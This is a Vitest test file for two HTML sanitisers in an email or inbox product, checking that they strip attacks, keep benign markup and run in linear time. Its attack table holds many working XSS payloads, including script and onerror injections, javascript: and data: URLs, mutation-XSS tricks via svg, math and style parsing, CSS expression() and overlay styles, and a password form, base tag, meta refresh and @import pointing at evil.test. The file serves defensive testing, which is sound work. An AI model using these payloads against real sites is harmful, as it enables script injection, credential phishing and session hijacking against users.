import { describe, expect, it, vi } from 'vitest';
import { safeEmailHtml, safeInboxHtml } from '../../../src/workflow-language/html/safe-html.ts';
import { cpuMsOf } from '../../testkit/cpu-time.ts';

const ATTACKS: readonly (readonly [html: string, inbox: string])[] = [
  ['<script>alert(1)</script>Hi', 'Hi'],
  ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['<SCRIPT SRC=//evil.test/x.js></SCRIPT>', ''],
  ['<img src=x onerror=alert(1)>', '<img src="x" />'],
  ['<<img src=x onerror=alert(1)>', '&lt;<img src="x" />'],
  ['<img/onerror=alert(1)/src=x>', '<img />'],
  ['<details open ontoggle=alert(1)>x</details>', '<details open>x</details>'],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="java\tscript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href=" \u0001VBScript:x">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img />'],
  ['<img srcset="javascript:x 1x, /a.png 2x">', '<img srcset="/a.png 2x" />'],
  ['<p style="width:expression(alert(1));color:red">x</p>', '<p style="color:red">x</p>'],
  ['<p style="background-color:url(javascript:x)">x</p>', '<p>x</p>'],
  ['<p style="color:\\65 xpression(alert(1))">x</p>', '<p>x</p>'],
  ['<p style="position:fixed;margin:-9px;top:0">x</p>', '<p>x</p>'],
  ['<p style="margin-top:calc(0px - 700px)">x</p>', '<p>x</p>'],
  ['<p style="margin:0 0 -1500px -300px;color:red">x</p>', '<p style="color:red">x</p>'],
  ['<p style="margin:max(-9px,-8px);text-indent:var(--a);letter-spacing:calc(-9px)">x</p>', '<p>x</p>'],
  ['<p class="fixed inset-0">x</p>', '<p>x</p>'],
  ['<style>@import "//evil.test/x.css"</style>x', 'x'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<table><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;" /></table>',
  ],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['<xmp><img src=x onerror=alert(1)></xmp>', ''],
  ['<textarea><img src=x onerror=alert(1)></textarea>', ''],
  ['<title><style></title><img src=x onerror=alert(1)></style>', '&lt;style&gt;<img src="x" />'],
  ['<!--><img src=x onerror=alert(1)>-->', '<img src="x" />--&gt;'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>x', 'x'],
  ['<form action="//evil.test"><input name=password></form>', ''],
  ['<base href=//evil.test><meta http-equiv=refresh content="0;url=//evil.test">x', 'x'],
  ['<b id=config name=config data-controller=x>x</b>', '<b>x</b>'],
  ['<style>a{}</style/><script>alert(1)</script>', ''],
  ['<STYLE>a{}</STYLE/><img src=x onerror=alert(1)></style>', ''],
  ['<style>a{}</style\f/><img src=x onerror=alert(1)>', '<img src="x" />'],
  ['<style/>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;', ''],
  ['<style/><b title="</style><img src=x onerror=alert(1)>">x</b>', ''],
  [`${'<div>'.repeat(200)}<style><script>alert(1)</script></style>`, `${'<div>'.repeat(200)}${'</div>'.repeat(200)}`],
  ['<title>x</title/><img src=x onerror=alert(1)>', 'x&lt;/title/&gt;&lt;img src=x onerror=alert(1)&gt;'],
  ['<title/>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;', '&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;'],
  ['<textarea>x</textarea/><img src=x onerror=alert(1)>', ''],
  ['<xmp>x</xmp/><img src=x onerror=alert(1)>', ''],
  ['<noembed>x</noembed/><img src=x onerror=alert(1)></noembed>', ''],
  ['<noframes>x</noframes/><img src=x onerror=alert(1)></noframes>', ''],
  ['<plaintext></plaintext><img src=x onerror=alert(1)>', '<img src="x" />'],
  ['<!-- --!><img src=x onerror=alert(1)> -->x', 'x'],
  ['<!---><img src=x onerror=alert(1)>x', '<img src="x" />x'],
  ['<![CDATA[><img src=x onerror=alert(1)>]]>x', 'x'],
  ['<?x ><img src=x onerror=alert(1)>?>x', '<img src="x" />?&gt;x'],
  ['</ ><img src=x onerror=alert(1)>x', '&lt;/ &gt;<img src="x" />x'],
  [
    '<svg><p><style><!--</style><img src=x title="--><img src=x onerror=alert(1)>"></p></svg>',
    '<p><img src="x" title="--&gt;&lt;img src=x onerror=alert(1)&gt;" /></p>',
  ],
  ['<p style="width:1px\nexpression(alert(1))">x</p>', '<p>x</p>'],
  ['Hello <', 'Hello &lt;'],
];
/** What no safe HTML has, in a tag. */
const DANGEROUS =
  /<[^>]*\s(?:on\w+|srcdoc|formaction)\s*=|<(?:script|iframe|base|form|svg|math)|(?:href|src)="\s*(?:javascript|vbscript|data:text)|expression\(/i;

describe('safeInboxHtml', () => {
  it.each(ATTACKS)('makes %j safe', (html, safe) => {
    expect(safeInboxHtml(html)).toBe(safe);
    expect(safeInboxHtml(safe)).toBe(safe);
  });

  it.each([
    'Tom & Jerry: 1 < 2, 3 > 2, "quoted"',
    '<p>Tom &amp; <b>Jerry</b></p>',
    '<p style="color:#f00;text-align:center">Order <a href="/orders/1" target="_blank">1</a></p>',
    '<a href="https://example.com/?a=1&amp;b=2">x</a> <a href="mailto:a@example.com">y</a> <a href="tel:+43">z</a>',
    '<p style="margin:0 auto 1.5em .5rem !important;margin-left:5%;text-indent:2em;letter-spacing:normal">x</p>',
    '<table><tr><td colspan="2" align="right">x</td></tr></table><ul><li>x</li></ul>',
    '<img src="data:image/png;base64,AAAA" alt="Logo" />',
  ])('keeps %j', (html) => {
    expect(safeInboxHtml(html)).toBe(html);
  });
});

it('writes nothing to the console and keeps only images with a valid srcset', () => {
  const log = vi.spyOn(console, 'log').mockImplementation(() => {});
  const srcsetOf = (srcset: string) => /srcset="([^"]*)"/.exec(safeEmailHtml(`<img srcset="${srcset}">`))?.[1];
  for (const invalid of [
    '/a 1y',
    "/a secret\nforged '",
    '/a (',
    '/a 1x 2x',
    '/a 0w',
    '/a -1x',
    '/a 1w, /b x',
    '/a,,/b 1x',
  ])
    expect(srcsetOf(invalid)).toBeUndefined();
  expect(srcsetOf('/a,/b')).toBe('/a,/b');
  expect(srcsetOf('\n /a 1x,/b,c 1.5x , /d, /e 0100w')).toBe('/a 1x, /b,c 1.5x, /d, /e 100w');
  expect(log).not.toHaveBeenCalled();
  log.mockRestore();
});

it.each([
  ['braces of a style attribute', `<p style="${'{'.repeat(99_000)}">x</p>`],
  ['comments that do not end', `<style>${'/* '.repeat(100_000)}</style>`],
  ['commas of a srcset', `<img srcset="/a${','.repeat(99_000)}b, /c">`],
])('takes time in proportion to the number of %s', async (_, html) => {
  // Quadratic time is more than a second.
  expect(await cpuMsOf(() => safeInboxHtml(html))).toBeLessThan(500);
  expect(await cpuMsOf(() => safeEmailHtml(html))).toBeLessThan(500);
});

it('keeps the classes of an e-mail, which its own styles use', () => {
  expect(safeEmailHtml('<p class="a">x</p>')).toBe('<p class="a">x</p>');
});

describe('safeEmailHtml', () => {
  it.each(ATTACKS)('makes %j safe', (html) => {
    expect(safeEmailHtml(html).replace(/ title="[^"]*"|<style>[\s\S]*?<\/style>/g, '')).not.toMatch(DANGEROUS);
  });

  it('keeps a whole document with its styles', () => {
    const html =
      '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8" /><title>News</title>' +
      '<style>@media (max-width: 600px) { .a > p { color: red } }</style></head>' +
      '<body bgcolor="#fff" style="margin:-1px"><table cellpadding="0" id="main"><tr><td background="https://example.com/a.png">' +
      '<center><font color="red">Hi</font></center><img src="cid:logo" alt="Logo" /></td></tr></table></body></html>';
    expect(safeEmailHtml(html)).toBe(html);
  });

  it('removes a style whose text a browser could end earlier', () => {
    for (const end of ['</style/>', '</STYLE/>', '</style/\n>', '</'])
      expect(safeEmailHtml(`<style>a{}${end}<img src=x></style><p>x</p>`)).toBe('<p>x</p>');
  });

  it('removes redirects, and styles that run code', () => {
    expect(safeEmailHtml('<meta http-equiv="refresh" content="0;url=//evil.test"><p>x</p>')).toBe('<meta /><p>x</p>');
    expect(safeEmailHtml('<style>a { width: expr/**/ession(alert(1)) }</style><p>x</p>')).toBe('<p>x</p>');
    expect(safeEmailHtml('<p style="-moz-binding:url(//evil.test)">x</p>')).toBe('<p>x</p>');
  });
});
